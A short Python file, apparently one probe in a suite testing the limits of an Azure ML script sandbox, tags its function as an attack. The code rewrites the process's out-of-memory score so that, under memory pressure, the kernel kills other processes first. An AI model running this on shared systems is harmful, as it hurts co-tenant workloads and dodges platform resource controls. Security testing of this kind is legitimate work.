"""Asks the kernel to kill every other process before itself when memory is short."""

from attack import attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    with open("/proc/self/oom_score_adj") as stream:
        before = int(stream.read())
    with open("/proc/self/oom_score_adj", "w") as stream:
        stream.write("-900")
    with open("/proc/self/oom_score_adj") as stream:
        after = int(stream.read())
    return f"came from {before} to {after}" if after < before else ""
